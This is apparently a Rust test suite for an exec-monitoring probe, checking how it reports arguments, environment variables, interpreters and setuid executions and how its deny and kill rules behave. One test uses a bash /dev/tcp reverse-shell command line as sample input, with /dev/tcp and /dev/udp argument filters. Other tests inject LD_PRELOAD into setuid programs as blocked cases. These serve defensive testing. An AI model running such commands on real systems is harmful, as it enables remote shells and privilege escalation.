//! Claims about `exec` with arguments and environment.

use std::{ffi::CString, fs, os::unix::fs::PermissionsExt};

use nix::{errno::Errno, unistd::execve};
use serde_json::{Value, json};

use super::{
    Outcome,
    exec::program,
    holds, same,
    shell::{self, Shell},
    task::{self, Deed, Identity, KILLED, ME, Task, compare_header, refusal},
};

fn probe(params: &str, mode: &str) -> Result<Shell, String> {
    Shell::ready(&format!(
        "let p = probe(\"exec\", #{{{params}}}).scope(#{{pid: {}}}){mode}.name(\"t\").attach(); print(\"ready\");",
        std::process::id()
    ))
}

/// Executes with exactly these arguments and this environment, in `/tmp/programs`.
fn execute_as(identity: &Identity, path: &str, argv: &[&str], env: &[&str]) -> Result<Task, String> {
    let text = |t: &&str| CString::new(*t).map_err(|e| e.to_string());
    let path = CString::new(path).map_err(|e| e.to_string())?;
    let argv = argv.iter().map(text).collect::<Result<Vec<_>, _>>()?;
    let env = env.iter().map(text).collect::<Result<Vec<_>, _>>()?;
    task::perform(identity, move || {
        if std::env::set_current_dir("/tmp/programs").is_err() {
            return 98;
        }
        let error = execve(&path, &argv, &env).unwrap_err();
        refusal(error)
    })
}

fn execute(path: &str, argv: &[&str], env: &[&str]) -> Result<Task, String> {
    execute_as(&ME, path, argv, env)
}

/// The event of this task about this variable (or without one).
fn event(shell: &mut Shell, pid: u32, variable: &str) -> Result<Value, String> {
    shell
        .wait_for(|l| l["type"] == "event" && l["pid"] == pid && l["env_name"] == variable)
        .map_err(|e| format!("no event of pid {pid} about `{variable}`: {e}"))
}

fn tells(event: &Value, truth: &Value) -> Outcome {
    for (name, value) in truth.as_object().ok_or("no truth")? {
        same(name, &event[name], value)?;
    }
    Ok(())
}

pub fn arguments() -> Outcome {
    let path = program("with-args")?;
    let mut shell = probe(&format!("path: \"{path}\", args: true"), "")?;
    let odd = ["true", "", "two words", "ümlaut", "a=b", ""];
    let task = execute(&path, &odd, &["A=1"])?;
    same("the program", task.deed, Deed::Done)?;
    let told = event(&mut shell, task.pid, "")?;
    // The task as it has become: its header tells the new image.
    let mut truth = task.clone();
    truth.truth["comm"] = json!("with-args");
    truth.truth["exe"] = json!(path);
    truth.truth["exe_inode"] =
        json!(std::os::unix::fs::MetadataExt::ino(&fs::metadata(&path).map_err(|e| e.to_string())?));
    compare_header(
        &told,
        &truth,
        &json!({
            "hook": "bprm_committed_creds", "verdict": "allow", "mode": "observe", "errno": 0, "notes": ["late"],
            "path": path, "path_length": path.len(), "filename": path, "interpreter": "", "flags": [],
            "cwd": "/tmp/programs", "argv": odd, "argc": 6, "argv_cut": false,
            "argv_length": odd.iter().map(|a| a.len() + 1).sum::<usize>(),
            "env_name": "", "env_value": "", "env_times": 0, "env_overflow": false,
        }),
    )?;
    let script = "/tmp/programs/with-args.sh";
    fs::write(script, "#!/bin/sh -e\nexit 0\n").map_err(|e| e.to_string())?;
    fs::set_permissions(script, fs::Permissions::from_mode(0o755)).map_err(|e| e.to_string())?;
    shell.stop()?.well()?;
    // A script is matched as itself, and told with what its interpreter is given.
    let mut shell = probe(&format!("path: \"{script}\", args: true"), "")?;
    let task = execute(script, &["ignored", "one"], &[])?;
    tells(
        &event(&mut shell, task.pid, "")?,
        &json!({
            "filename": script, "interpreter": "/bin/sh", "flags": ["interpreter"],
            "argv": ["/bin/sh", "-e", script, "one"], "argc": 4, "path": fs::canonicalize("/bin/sh").unwrap_or_default(),
        }),
    )?;
    let ended = shell.stop()?;
    same("events", ended.events().count(), 1)?;
    ended.well()
}

pub fn long_arguments() -> Outcome {
    let path = program("long-args")?;
    let mut shell = probe(&format!("path: \"{path}\", args: true"), "")?;
    let fits = "f".repeat(4096 - "true\0".len() - 1);
    for (argument, cut) in [(fits.clone(), false), (format!("{fits}f"), true), ("g".repeat(100_000), true)] {
        let task = execute(&path, &["true", &argument], &[])?;
        same("the program", task.deed, Deed::Done)?;
        let told = event(&mut shell, task.pid, "")?;
        same("argv_cut", &told["argv_cut"], &json!(cut))?;
        same("argc", &told["argc"], &json!(2))?;
        same("argv_length", &told["argv_length"], &json!(4096))?;
        same("argv", &told["argv"], &json!(["true", &argument[..argument.len().min(4091)]]))?;
    }
    shell.stop()?.well()
}

pub fn environment() -> Outcome {
    let path = program("with-env")?;
    let longest = "L".repeat(47);
    let mut shell = probe(&format!("path: \"{path}\", env: [\"KNOWN\", \"{longest}\", \"EMPTY\"]"), "")?;
    let (fits, over) = ("v".repeat(4096), "w".repeat(4097));
    let lookalikes = ["KNOWN", "KNOWNX=1", "XKNOWN=1", "KNOW=1", "=KNOWN=1", ""];
    // The environment, and what is true of KNOWN: times, value, overflow.
    let cases: [(Vec<String>, u32, &str, bool); 6] = [
        (vec![], 0, "", false),
        (vec!["KNOWN=value".into()], 1, "value", false),
        (vec!["KNOWN=first".into(), "KNOWN=".into(), "KNOWN=last".into()], 3, "first", false),
        (vec![format!("KNOWN={fits}")], 1, &fits, false),
        (vec![format!("KNOWN={over}")], 1, &over[..4096], true),
        (vec!["KNOWN=a=b=c".into()], 1, "a=b=c", false),
    ];
    for (variables, times, value, overflow) in &cases {
        let longest_set = format!("{longest}=x");
        let mut env: Vec<_> = lookalikes.to_vec();
        env.extend(variables.iter().map(String::as_str));
        env.extend([longest_set.as_str(), "EMPTY="]);
        let task = execute(&path, &["true"], &env)?;
        same("the program", task.deed, Deed::Done)?;
        let known = event(&mut shell, task.pid, "KNOWN")?;
        tells(
            &known,
            &json!({
                "env_times": times, "env_value": value, "env_overflow": overflow, "hook": "bprm_committed_creds",
                "ppid": std::process::id(), "uid": 0, "gid": 0, "path": path, "argv": ["true"], "cwd": "/tmp/programs",
            }),
        )?;
        let long = event(&mut shell, task.pid, &longest)?;
        tells(&long, &json!({"env_times": 1, "env_value": "x", "env_overflow": false}))?;
        let empty = event(&mut shell, task.pid, "EMPTY")?;
        tells(&empty, &json!({"env_times": 1, "env_value": "", "env_overflow": false}))?;
    }
    let ended = shell.stop()?;
    same("one event for each execution and variable", ended.events().count(), 3 * cases.len())?;
    ended.well()
}

pub fn far_behind() -> Outcome {
    let path = program("far-env")?;
    let mut shell = probe(&format!("path: \"{path}\", env: [\"FAR\", \"ABSENT\"]"), "")?;
    let short: Vec<_> = (0..40_000).map(|i| format!("a{i}")).collect();
    let long: Vec<_> = (0..6).map(|i| format!("{i}={}", "x".repeat(120_000))).collect();
    let mut argv = vec!["true"];
    argv.extend(short.iter().map(String::as_str));
    let mut env: Vec<_> = long.iter().map(String::as_str).collect();
    env.extend(short.iter().map(String::as_str));
    env.push("FAR=found");
    let task = execute(&path, &argv, &env)?;
    same("the program", task.deed, Deed::Done)?;
    let told = event(&mut shell, task.pid, "FAR")?;
    tells(
        &told,
        &json!({"env_times": 1, "env_value": "found", "argc": 40_001, "argv_cut": true, "notes": ["late"]}),
    )?;
    let told = event(&mut shell, task.pid, "ABSENT")?;
    tells(&told, &json!({"env_times": 0, "env_value": "", "notes": ["late"]}))?;
    shell.stop()?.well()
}

pub fn deny() -> Outcome {
    let path = program("env-denied")?;
    let ran = "/tmp/programs/ran";
    let script = format!("echo ran >{ran}");
    let params = format!("path: \"{path}\", env: \"LD_PRELOAD\", env_is: [\"set\", \"overflow\"]");
    let mut shell = probe(&params, ".deny(\"EPERM\")")?;
    let _ = fs::remove_file(ran);
    let run = |env: &[&str]| execute(&path, &["sh", "-c", &script], env);
    let task = run(&["LD_PRELOAD=/tmp/x.so"])?;
    same("with the variable", task.deed, KILLED)?;
    holds(!fs::exists(ran).unwrap_or(true), "it has not run an instruction of its own")?;
    let told = event(&mut shell, task.pid, "LD_PRELOAD")?;
    tells(
        &told,
        &json!({"verdict": "kill", "mode": "deny", "errno": 0, "notes": ["late"], "env_value": "/tmp/x.so", "env_times": 1}),
    )?;
    same("without it", run(&["LD_LIBRARY_PATH=/tmp"])?.deed, Deed::Done)?;
    holds(fs::exists(ran).unwrap_or(false), "then it runs")?;
    let ended = shell.stop()?;
    let books = ended.books("t")?;
    same("killed", &books["kill"], &json!(1))?;
    same("denied", &books["deny"], &json!(0))?;
    same("filtered", &books["filtered"], &json!(1))?;
    ended.well()?;
    same("detached", run(&["LD_PRELOAD=/tmp/x.so"])?.deed, Deed::Done)
}

pub fn states() -> Outcome {
    let over = format!("V={}", "o".repeat(5000));
    let environments: [(&str, &[&str]); 4] =
        [("unset", &["W=1"]), ("set", &["V=1"]), ("repeated", &["V=1", "V=2"]), ("overflow", &[&over])];
    let asked = [
        ("unset", [true, false, false, false]),
        ("set", [false, true, true, true]),
        ("repeated", [false, false, true, false]),
        ("overflow", [false, false, false, true]),
    ];
    let mut script = String::new();
    for (state, _) in asked {
        let path = program(&format!("env-{state}"))?;
        script.push_str(&format!(
            "probe(\"exec\", #{{path: \"{path}\", env: \"V\", env_is: \"{state}\"}}).scope(#{{pid: {}}}).kill(\"SIGTERM\").attach();",
            std::process::id()
        ));
    }
    let shell = Shell::ready(&format!("{script} print(\"ready\");"))?;
    for (state, expected) in asked {
        for ((name, env), killed) in environments.iter().zip(expected) {
            let deed = if killed { KILLED } else { Deed::Done };
            let task = execute(&format!("/tmp/programs/env-{state}"), &["true"], env)?;
            same(&format!("{state}: {name}"), task.deed, deed)?;
        }
    }
    shell.stop()?.well()
}

pub fn set_uid() -> Outcome {
    let (plain, raised) = (program("plain")?, program("raised")?);
    fs::set_permissions(&raised, fs::Permissions::from_mode(0o4755)).map_err(|e| e.to_string())?;
    let user = Identity { uid: 1000, gid: 1000, ..ME };
    let params = "path_prefix: \"/tmp/programs/\", flags: \"setuid\", env: \"LD_PRELOAD\", env_is: \"set\"";
    let mut shell = probe(params, ".deny(\"EPERM\")")?;
    let preload = ["LD_PRELOAD=/tmp/x.so"];
    let task = execute_as(&user, &raised, &["true"], &preload)?;
    same("set-uid with the variable", task.deed, KILLED)?;
    // The event tells the task as it has become.
    let told = event(&mut shell, task.pid, "LD_PRELOAD")?;
    tells(&told, &json!({"uid": 1000, "euid": 0, "flags": ["setuid"], "path": raised}))?;
    same("set-uid without", execute_as(&user, &raised, &["true"], &[])?.deed, Deed::Done)?;
    same("not set-uid", execute_as(&user, &plain, &["true"], &preload)?.deed, Deed::Done)?;
    shell.stop()?.well()
}

pub fn old_image_in_scope() -> Outcome {
    let path = program("late-scope")?;
    let suite = std::env::current_exe().map_err(|e| e.to_string())?;
    let shell = Shell::ready(&format!(
        "probe(\"exec\", #{{path: \"{path}\", env: \"V\"}}).scope(#{{exe: \"{}\", comm: \"caller\"}}).deny(\"EPERM\").name(\"t\").attach(); print(\"ready\");",
        suite.display()
    ))?;
    let named = |comm| Identity { comm: Some(comm), ..ME };
    same("the caller", execute_as(&named("caller"), &path, &["true"], &[])?.deed, KILLED)?;
    same("another caller", execute_as(&named("other"), &path, &["true"], &[])?.deed, Deed::Done)?;
    shell.stop()?.well()
}

pub fn failed_execution() -> Outcome {
    // In scope and matched, but no program: it fails behind the check.
    let broken = "/tmp/programs/broken";
    fs::create_dir_all("/tmp/programs").map_err(|e| e.to_string())?;
    fs::write(broken, "\x7fELF and nothing more").map_err(|e| e.to_string())?;
    fs::set_permissions(broken, fs::Permissions::from_mode(0o755)).map_err(|e| e.to_string())?;
    let fine = program("fine")?;
    let shell = probe(&format!("path: \"{broken}\", env: \"V\""), ".deny(\"EPERM\")")?;
    let task = task::perform(&ME, || {
        let run = |path: &str| {
            let path = CString::new(path).unwrap_or_default();
            execve(&path, &[c"true"], &[c"V=1"]).unwrap_err()
        };
        if run(broken) != Errno::ENOEXEC {
            return 97;
        }
        // The same task then executes what the probe has nothing to say about.
        100 + run(&fine) as i32
    })?;
    same("the other program", task.deed, Deed::Done)?;
    let ended = shell.stop()?;
    same("killed", &ended.books("t")?["kill"], &json!(0))?;
    ended.well()
}

pub fn live() -> Outcome {
    let path = program("live-env")?;
    let ended = shell::run(&format!(
        r#"
        let p = probe("exec", #{{path: "{path}"}}).scope(#{{pid: getpid()}}).deny("EACCES").name("t").attach();
        let out = [];
        let attempt = || {{ let r = run(["{path}", "true"]); out.push([r.errno, r.signal]); }};
        attempt.call();
        p.set("args", true); attempt.call();
        p.set("args", false); attempt.call();
        p.set("env", ["PATH"]); p.set("env_is", "unset"); attempt.call();
        p.set("env", ["NOT_THERE"]); attempt.call();
        p.set("env", ["PATH", "HOME"]); p.set("env_is", ["set"]); p.shadow(); attempt.call();
        emit(#{{out: out}});
        p.detach();
        "#
    ))?;
    let expected = json!([
        ["EACCES", null],
        [null, "SIGKILL"],
        ["EACCES", null],
        [null, null],
        [null, "SIGKILL"],
        [null, null]
    ]);
    same("what became of each execution", &ended.emitted()?["out"], &expected)?;
    same("would have been denied", &ended.books("t")?["would_deny"], &json!(2))?;
    ended.well()
}

/// Texts of arguments by params, which the filter asks about; beside a closure, and live.
pub fn texts_of_arguments() -> Outcome {
    let path = program("busybox-texts")?;
    let ended = shell::run(&format!(
        r#"
        let p = probe("exec", #{{path: "{path}", argv_contains: ["/dev/tcp/", "/dev/udp/"]}}).scope(#{{pid: getpid()}}).deny("EACCES").name("t").attach();
        let out = [];
        let attempt = |arguments| {{ let r = run(["{path}", "true"] + arguments); out.push([r.errno, r.signal]); }};
        for text in ["bash -i >&/dev/tcp/10.0.0.1/1", "/dev/udp/", "/dev/tc"] {{ attempt.call([text]); }}
        p.set("argv_contains", ["other"]); attempt.call(["/dev/tcp/"]); attempt.call(["an-other-one"]);
        // Any one of them is enough.
        p.detach(); p.set("argv", ["-e", "-c"]); p.set("argv_prefix", "--run="); p.attach();
        for text in ["-e", "-ee", "--run=x", "x--run=", "others"] {{ attempt.call([text]); }}
        p.detach(); p.set("argv", ()); p.set("argv_prefix", ()); p.set("cmdline_like", "*true two*wor?ds"); p.set("argv_contains", ()); p.attach();
        attempt.call(["two", "many", "wor-ds"]); attempt.call(["two", "words"]);
        p.when(|e| e.argc > 4); attempt.call(["two", "wor-ds"]); attempt.call(["two", "x", "wor-ds"]);
        // Without any it decides before, and can refuse.
        p.set("cmdline_like", ()); p.when(()); attempt.call(["two"]);
        emit(#{{out: out, shown: p.to_string()}});
        p.detach();
        "#
    ))?;
    let (killed, ran) = (json!([null, "SIGKILL"]), json!([null, null]));
    let expected = [
        &[&killed, &killed, &ran][..],
        &[&ran, &killed],
        &[&killed, &ran, &killed, &ran, &killed],
        &[&killed, &ran],
        &[&ran, &killed],
    ];
    let mut expected: Vec<_> = expected.concat().into_iter().cloned().collect();
    expected.push(json!(["EACCES", null]));
    same("what became of each execution", &ended.emitted()?["out"], &json!(expected))?;
    same("no trouble", &ended.books("t")?["errors"], &json!(0))?;
    ended.well()
}

pub fn said_everywhere() -> Outcome {
    let path = program("said")?;
    let ended = shell::run(&format!(
        r#"let p = probe("exec", #{{path: "{path}", env: "V"}}).scope(#{{pid: getpid()}}).deny("EPERM").name("t").attach();
           emit(#{{shown: p.to_string()}}); p.detach();"#
    ))?;
    let shown = ended.emitted()?["shown"].as_str().unwrap_or_default().to_owned();
    holds(shown.contains("by SIGKILL"), format!("the probe shown: {shown}"))?;
    let mode = ended.books("t")?["mode"].as_str().unwrap_or_default();
    holds(mode.contains("by SIGKILL"), format!("the books: {mode}"))?;
    holds(ended.stderr.contains("before its first instruction"), format!("at the attach: {}", ended.stderr))?;
    ended.well()
}

pub fn directory() -> Outcome {
    let path = program("directory")?;
    let mut shell = probe(&format!("path: \"{path}\""), "")?;
    let task = execute(&path, &["true"], &[])?;
    let told = shell.event(task.pid, &path)?;
    tells(
        &told,
        &json!({"cwd": "/tmp/programs", "argv": [], "argc": 0, "hook": "bprm_check_security", "notes": []}),
    )?;
    shell.stop()?.well()
}
